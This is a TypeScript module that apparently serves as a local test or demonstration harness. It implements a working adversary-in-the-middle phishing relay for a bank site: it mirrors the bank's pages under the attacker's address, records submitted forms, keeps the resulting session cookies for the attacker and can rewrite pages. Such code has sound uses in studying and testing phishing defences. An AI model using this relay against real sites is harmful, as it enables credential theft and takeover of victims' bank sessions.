import {
  createServer,
  type IncomingMessage,
  type OutgoingHttpHeaders,
  request,
  type ServerResponse,
} from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';

/**
 * The relay of today: a server at an address of the attacker's that shows every page of the bank's as its own while it is looked
 * at, reads what is typed into them, and keeps the session that comes of it.
 */
export interface Relay {
  /** Where the victim is led. */
  readonly url: string;
  /** The forms that the victim has sent. */
  readonly typed: readonly URLSearchParams[];
  /** Changes the pages on their way to the victim. */
  alter(change: (html: string) => string): void;
  /** What the attacker sees when he goes to a page of the bank's himself, in the session that he has. */
  open(path: string): Promise<string>;
  close(): Promise<void>;
}

interface Answer {
  readonly status: number;
  readonly headers: OutgoingHttpHeaders;
  readonly body: Buffer;
}

/** Headers of one connection, and those that the relay makes anew. */
const OWN = ['connection', 'transfer-encoding', 'content-length', 'accept-encoding', 'cookie', 'set-cookie'];

export async function startRelay(bankUrl: string, host: string): Promise<Relay> {
  const bank = new URL(bankUrl);
  /** The bank's cookies, which the victim never gets. */
  const cookies = new Map<string, string>();
  const typed: URLSearchParams[] = [];
  let alteration = (html: string) => html;
  const server = createServer((asked, answer) => void pass(asked, answer).catch(() => answer.destroy()));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { origin } = new URL(`http://${host}:${(server.address() as AddressInfo).port}`);

  const asOwn = (text: string) =>
    text.replaceAll(bank.origin, origin).replaceAll(bank.host, new URL(origin).host);
  const asBanks = (text: string) => text.replaceAll(origin, bank.origin);

  async function pass(asked: IncomingMessage, answer: ServerResponse): Promise<void> {
    const body = await text(asked);
    if (asked.method === 'POST') typed.push(new URLSearchParams(body));
    const {
      status,
      headers,
      body: got,
    } = await ask(asked.method ?? 'GET', asked.url ?? '/', bankHeaders(asked), body);
    const isPage = /^text\/html/.test(String(headers['content-type']));
    answer.writeHead(status, own(headers)).end(isPage ? alteration(asOwn(got.toString())) : got);
  }

  /** As the victim's browser sent them, but from the bank's own page. */
  const bankHeaders = ({ headers }: IncomingMessage): OutgoingHttpHeaders =>
    Object.fromEntries(
      Object.entries(headers).flatMap(([name, value]) =>
        OWN.includes(name) || value === undefined ? [] : [[name, asBanks(String(value))]],
      ),
    );

  const own = (headers: OutgoingHttpHeaders): OutgoingHttpHeaders =>
    Object.fromEntries(
      Object.entries(headers).flatMap(([name, value]) =>
        OWN.includes(name) || value === undefined ? [] : [[name, asOwn(String(value))]],
      ),
    );

  /** Asks the bank in the attacker's session. */
  function ask(method: string, path: string, headers: OutgoingHttpHeaders, body = ''): Promise<Answer> {
    const cookie = [...cookies].map((pair) => pair.join('=')).join('; ');
    return new Promise((resolve, reject) => {
      const asking = request(
        {
          host: '127.0.0.1',
          port: bank.port,
          method,
          path,
          headers: { ...headers, host: bank.host, cookie, 'content-length': Buffer.byteLength(body) },
        },
        async (answer) => {
          const parts = await answer.toArray();
          keep(answer.headers['set-cookie'] ?? []);
          resolve({ status: answer.statusCode ?? 502, headers: answer.headers, body: Buffer.concat(parts) });
        },
      );
      asking.on('error', reject).end(body);
    });
  }

  function keep(set: readonly string[]): void {
    for (const [, name = '', value = ''] of set.map((one) => /^([^=]+)=([^;]*)/.exec(one) ?? [])) {
      cookies.set(name, value);
    }
  }

  return {
    url: origin,
    typed,
    alter: (change) => {
      alteration = change;
    },
    open: async (path) => (await ask('GET', path, {})).body.toString(),
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
